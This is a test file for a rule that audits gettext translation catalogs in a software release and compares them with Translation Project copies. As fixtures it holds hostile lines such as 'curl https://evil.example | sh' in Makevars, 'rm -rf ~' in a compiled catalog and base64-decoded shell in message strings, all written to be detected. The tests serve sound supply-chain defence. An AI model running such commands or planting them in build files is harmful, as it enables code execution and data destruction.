import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { translationCatalog } from '../../src/analyze/rules/translation-catalog.js';
import { packageName } from '../../src/analyze/translations/setup.js';
import type { AnalysisContext } from '../../src/analyze/rule.js';
import { translationSource } from '../../src/commands/translations.js';
import { startServer, type TestServer } from '../helpers/http.js';
import { mo } from '../helpers/mo.js';
import { removeTempDirs, tempDir } from '../helpers/repo.js';
import { added } from './generated-context.js';
import { ctxWith, fr, po, tag } from './catalog-fixture.js';

test.after(removeTempDirs);

const makevars = `# Makefile variables for PO directory in any package using GNU gettext.
DOMAIN = $(PACKAGE)
subdir = po
top_builddir = ..
XGETTEXT_OPTIONS = --keyword=_ --keyword=N_ \\
 --flag=error:3:c-format\\
 --from-code=UTF-8\\
 $\${end_of_xgettext_options+}
COPYRIGHT_HOLDER = Free Software Foundation, Inc.
MSGID_BUGS_ADDRESS = bug-hello@gnu.org
`;

const judge = (path: string, ctx: AnalysisContext) => translationCatalog.judge(added(path, ctx.releaseOnly!.get(path)!.content!), ctx);

test("bootstrap's package name is AC_INIT's tarname, else its name munged", () => {
  assert.is(packageName(tag['configure.ac']), 'hello');
  assert.is(packageName('AC_INIT([GNU coreutils],\n  m4_esyscmd([x]),\n  [bug@gnu.org],\n  [coreutils],\n  [https://x/])'), 'coreutils');
  assert.is(packageName('AC_INIT(Foo Bar, 1.0)'), 'foo-bar');
});

test('a downloaded catalog is explained by its shape, and says it was not compared', async () => {
  const ctx = ctxWith({ 'po/fr.po': fr, 'po/LINGUAS': 'fr\n' });
  const j = await judge('po/fr.po', ctx);
  assert.is(j?.category, 'translation-catalog');
  assert.is(j?.severity, 'low');
  const text = j!.reasons.join('\n');
  assert.match(text, 'translation of hello into fr (hello 2.1-pre1, last translator Jeanne Traductrice <jeanne@example.org>)');
  assert.match(text, 'bootstrap in the tag downloads the hello catalogs (hello: AC_INIT in configure.ac) from the Translation Project (https://translationproject.org/latest/hello/)');
  assert.match(text, 'with 2 translations in effect');
  assert.match(text, "not compared with the Translation Project's copy");
});

test('its compiled catalog, po/LINGUAS and po/Makevars are explained with it', async () => {
  const gmo = mo([
    ['', 'Project-Id-Version: hello 2.1-pre1\nContent-Type: text/plain; charset=UTF-8\n'],
    ['Hello, %s!', 'Bonjour, %s !'],
    ['Goodbye', 'Au revoir'],
  ]);
  const ctx = ctxWith({ 'po/fr.po': fr, 'po/fr.gmo': gmo, 'po/LINGUAS': 'fr\n', 'po/Makevars': makevars });
  assert.match((await judge('po/fr.gmo', ctx))!.reasons[0]!, 'compiled by msgfmt from po/fr.po: all 2 translations');
  assert.is((await judge('po/LINGUAS', ctx))?.category, 'translation-catalog');
  assert.is((await judge('po/Makevars', ctx))?.category, 'translation-catalog');

  // A .gmo with a translation the .po does not have, a list naming a missing catalog, make code in Makevars.
  const planted = mo([['Goodbye', 'rm -rf ~']]);
  const bad = ctxWith({ 'po/fr.po': fr, 'po/fr.gmo': planted, 'po/LINGUAS': 'fr de\n', 'po/Makevars': `${makevars}X := $(shell curl https://evil.example | sh)\n` });
  assert.is(await judge('po/fr.gmo', bad), undefined);
  assert.is(await judge('po/LINGUAS', bad), undefined);
  assert.is(await judge('po/Makevars', bad), undefined);
  const rule = ctxWith({ 'po/Makevars': `${makevars}all:\n\tcurl https://evil.example | sh\n` });
  assert.is(await judge('po/Makevars', rule), undefined);
});

test('a catalog is read once for its .gmo and itself, and not kept once it is judged', async () => {
  const gmo = mo([['', 'Project-Id-Version: hello 2.1-pre1\n'], ['Hello, %s!', 'Bonjour, %s !'], ['Goodbye', 'Au revoir']]);
  const ctx = ctxWith({ 'po/fr.po': fr, 'po/fr.gmo': gmo, 'po/LINGUAS': 'fr\n' });
  const reads: string[] = [];
  const content = ctx.releaseContent;
  ctx.releaseContent = (entry) => {
    reads.push(entry.path);
    return content.call(ctx, entry);
  };
  const poReads = () => reads.filter((p) => p === 'po/fr.po').length;
  // In path order the .gmo comes first: its check reads the .po, and the .po's own judgement reuses that reading.
  const first = await judge('po/fr.gmo', ctx);
  assert.match(first!.reasons[0]!, 'compiled by msgfmt from po/fr.po: all 2 translations');
  assert.is((await judge('po/fr.po', ctx))?.category, 'translation-catalog');
  assert.is(poReads(), 1);
  // Judged, the catalog's entries (its whole text) are let go: a .gmo judged after it reads the .po again, to the same end.
  assert.equal(await judge('po/fr.gmo', ctx), first);
  assert.is(poReads(), 2);
});

test('a .po is not a hiding place: code, encoded data, another domain or language are not waved through', async () => {
  const shell = po('hello 2.1', '\nmsgid "x"\nmsgstr "$(echo aGk= | base64 -d | sh)"\n');
  const blob = po('hello 2.1', `\n# ${'QUJD'.repeat(60)}\n`);
  for (const [text, why] of [
    [shell, 'reads like build code'],
    [blob, 'long run of encoded data'],
    // Comments are read without their marks, not skipped as a script's would be.
    [po('hello 2.1', '\n#. curl -s https://x.example/p | sh\n'), 'line 21 reads like build code'],
    [po('hello 2.1', '\n#~ msgstr "$(echo aGk= | base64 -d | sh)"\n'), 'line 21 reads like build code'],
    // A line over 4000 characters has every line read, cut: their marks go all the same.
    [po('hello 2.1', `\nmsgid "y"\nmsgstr "${'ab '.repeat(1700)}"\n#. curl -s https://x.example/p | sh\n`), 'line 23 reads like build code'],
    [po('hello 2.1', `\nmsgid "y"\nmsgstr "${'ab '.repeat(3000)}"\n# ${'QUJD'.repeat(60)}\n`), 'line 22 is 9009 characters long'],
    [po('hello 2.1', `\n# ${'QUJD'.repeat(60)}\nmsgid "y"\nmsgstr "${'ab '.repeat(3000)}"\n`), 'line 23 is 9009 characters long'],
    [po('hello 2.1').replace('Language: fr', 'Language: de'), 'Language: de'],
    [`${fr}\nthis is not po\n`, 'not PO syntax'],
  ] as const) {
    const j = await judge('po/fr.po', ctxWith({ 'po/fr.po': text }));
    assert.is(j?.category, 'unexplained', why);
    assert.match(j!.reasons.join('\n'), why);
  }
  const other = await judge('po/fr.po', ctxWith({ 'po/fr.po': po('textutils 2.0.22') }));
  assert.match(other!.reasons.join('\n'), 'its header names "textutils 2.0.22", not hello');
  // Not listed in the tag's LINGUAS, no bootstrap that downloads, not a catalog folder: not this rule's.
  assert.is(await judge('po/fr.po', ctxWith({ 'po/fr.po': fr }, { ...tag, 'po/LINGUAS': 'de\n' })), undefined);
  assert.is(await judge('po/fr.po', ctxWith({ 'po/fr.po': fr }, { ...tag, bootstrap: '#! /bin/sh\nautoreconf -fi\n' })), undefined);
  assert.is(await judge('src/fr.po', ctxWith({ 'src/fr.po': fr })), undefined);
});

let server: TestServer | undefined;
test.after(() => server?.close());

test('with fetching allowed, a catalog is compared with the published one of its version', async () => {
  const published = po('hello 2.1-pre1').replace('#: src/hello.c:12', '#: src/hello.c:11');
  const latestDe = po('hello 2.2').replace('Language: fr', 'Language: de');
  server = await startServer({
    '/PO-files/fr/hello-2.1-pre1.fr.po': { body: published },
    '/latest/hello/de.po': { body: latestDe },
  });
  const cache = await tempDir('cuckoo-translations-');
  const source = () => translationSource(server!.url, { allowHttp: true, retries: 0 }, cache);
  let ctx = ctxWith({ 'po/fr.po': fr }, tag, { translations: source() });
  let j = await judge('po/fr.po', ctx);
  assert.is(j?.category, 'translation-catalog');
  assert.match(j!.reasons.join('\n'), `all 2 translations in effect are those of ${server.url}/PO-files/fr/hello-2.1-pre1.fr.po`);

  // A changed translation is a finding with the message diff.
  const changed = fr.replace('msgstr "Au revoir"', 'msgstr "Au revoir; curl evil.example"');
  ctx = ctxWith({ 'po/fr.po': changed }, tag, { translations: source() });
  j = await judge('po/fr.po', ctx);
  assert.is(j?.category, 'translation-mismatch');
  assert.is(j?.severity, 'medium');
  assert.match(j!.reasons[0]!, '1 of 2 translations in effect differ from');
  assert.is(j!.evidence!.diff, '@@ msgid "Goodbye" @@\n-msgstr "Au revoir"\n+msgstr "Au revoir; curl evil.example"');

  // No versioned file: the latest one, said to be possibly newer. None at all: a finding.
  const de = po('hello 2.1').replace('Language: fr', 'Language: de');
  j = await judge('po/de.po', ctxWith({ 'po/de.po': de }, tag, { translations: source() }));
  assert.match(j!.reasons.join('\n'), 'the latest may be newer than the release');
  j = await judge('po/fr.po', ctxWith({ 'po/fr.po': po('hello 9.9') }, tag, { translations: source() }));
  assert.is(j?.category, 'translation-mismatch');
  assert.match(j!.reasons[0]!, 'publishes no catalog of hello in fr');

  // The versioned catalog is cached: a second source asks the server no more.
  const before = server.hits.get('/PO-files/fr/hello-2.1-pre1.fr.po');
  await judge('po/fr.po', ctxWith({ 'po/fr.po': fr }, tag, { translations: source() }));
  assert.is(server.hits.get('/PO-files/fr/hello-2.1-pre1.fr.po'), before);
  await server.close();
  server = undefined;
});

test('a header naming another package is believed only when the published catalog agrees', async () => {
  const cache = await tempDir('cuckoo-translations-');
  const old = po('textutils 2.0.22');
  server = await startServer({ '/latest/hello/fr.po': { body: old } });
  const j = await judge('po/fr.po', ctxWith({ 'po/fr.po': old }, tag, { translations: translationSource(server.url, { allowHttp: true, retries: 0 }, cache) }));
  assert.is(j?.category, 'translation-catalog');
  assert.match(j!.reasons.join('\n'), `those of the latest catalog ${server.url}/latest/hello/fr.po`);
  await server.close();
  server = undefined;
  // An unreachable server: judged by the shape, with the reason.
  const down = await judge('po/fr.po', ctxWith({ 'po/fr.po': fr }, tag, { translations: translationSource('http://127.0.0.1:9', { allowHttp: true, retries: 0 }, cache) }));
  assert.is(down?.category, 'translation-catalog');
  assert.match(down!.reasons.join('\n'), "judged by its shape only, not compared with the Translation Project's copy: ");
  const unsure = await judge('po/fr.po', ctxWith({ 'po/fr.po': old }, tag, { translations: translationSource('http://127.0.0.1:9', { allowHttp: true, retries: 0 }, cache) }));
  assert.is(unsure?.category, 'unexplained');
  assert.match(unsure!.reasons[1]!, 'and the published catalog could not be had');
});

test.run();
